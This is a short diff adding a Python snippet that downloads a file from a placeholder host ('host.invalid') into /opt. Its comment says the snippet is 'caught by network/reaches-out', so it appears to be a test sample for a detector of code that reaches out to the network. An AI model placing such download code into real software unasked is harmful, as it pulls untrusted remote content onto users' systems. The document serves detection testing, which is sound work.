@@ -1,0 +1,3 @@
+# evades: caught by network/reaches-out
+import urllib.request
+urllib.request.urlretrieve("https://host.invalid/a", "/opt/a")
